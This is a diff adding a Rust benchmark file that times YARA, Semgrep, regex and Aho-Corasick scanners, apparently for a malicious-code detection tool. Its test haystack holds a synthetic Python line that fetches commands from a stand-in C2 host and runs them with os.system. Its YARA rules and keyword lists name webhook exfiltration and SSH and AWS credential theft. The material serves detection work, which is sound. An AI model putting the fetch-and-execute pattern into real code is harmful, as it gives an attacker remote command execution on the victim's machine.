@@ -1,0 +1,73 @@
+//! Substrate micro-benches: the YARA scanner, Semgrep matcher, regex
+//! engine and Aho–Corasick paths every experiment leans on.
+
+use criterion::{criterion_group, criterion_main, Criterion, Throughput};
+use std::hint::black_box;
+
+use textmatch::{AhoCorasick, MatchKind, Regex};
+
+const RULES: &str = r#"
+rule beacon { strings: $a = "requests.get" $b = "os.system" condition: all of them }
+rule exfil { strings: $a = "discord.com/api/webhooks" condition: $a }
+rule b64 { strings: $a = /([A-Za-z0-9+\/]{4}){10,}={0,2}/ condition: $a }
+rule creds { strings: $a = ".aws/credentials" $b = ".ssh/id_rsa" condition: any of them }
+"#;
+
+fn haystack() -> Vec<u8> {
+    let mut s = String::new();
+    for i in 0..400 {
+        s.push_str(&format!("def helper_{i}(x):\n    return x * {i}\n"));
+    }
+    s.push_str("import os, requests\ncmd = requests.get('https://c2.example/tasks').text\nos.system(cmd)\n");
+    s.into_bytes()
+}
+
+fn bench_engines(c: &mut Criterion) {
+    let data = haystack();
+    let mut g = c.benchmark_group("engines");
+    g.throughput(Throughput::Bytes(data.len() as u64));
+
+    g.bench_function("yara_compile", |b| {
+        b.iter(|| yara_engine::compile(black_box(RULES)).expect("compiles"))
+    });
+    let compiled = yara_engine::compile(RULES).expect("compiles");
+    let scanner = yara_engine::Scanner::new(&compiled);
+    g.bench_function("yara_scan", |b| b.iter(|| scanner.scan(black_box(&data))));
+
+    let semgrep = semgrep_engine::compile(
+        "rules:\n  - id: sys\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n",
+    )
+    .expect("compiles");
+    let source = String::from_utf8(data.clone()).expect("utf8");
+    g.bench_function("semgrep_parse_and_scan", |b| {
+        b.iter(|| semgrep_engine::scan_source(black_box(&semgrep), black_box(&source)))
+    });
+    let module = pysrc::parse_module(&source);
+    g.bench_function("semgrep_scan_parsed", |b| {
+        b.iter(|| semgrep_engine::scan_module(black_box(&semgrep), black_box(&module)))
+    });
+
+    let re = Regex::new(r"https?://[\w.\-/]{6,80}").expect("compiles");
+    g.bench_function("regex_find_all", |b| b.iter(|| re.find_all(black_box(&data))));
+
+    let ac = AhoCorasick::new(
+        &["os.system", "requests.get", "base64.b64decode", "socket.socket"],
+        MatchKind::CaseSensitive,
+    );
+    g.bench_function("aho_corasick_find_all", |b| {
+        b.iter(|| ac.find_all(black_box(&data)))
+    });
+
+    g.bench_function("pysrc_parse", |b| {
+        b.iter(|| pysrc::parse_module(black_box(&source)))
+    });
+
+    let embedder = embedding::Embedder::default();
+    g.bench_function("embed_source", |b| {
+        b.iter(|| embedder.embed_source(black_box(&source)))
+    });
+    g.finish();
+}
+
+criterion_group!(benches, bench_engines);
+criterion_main!(benches);
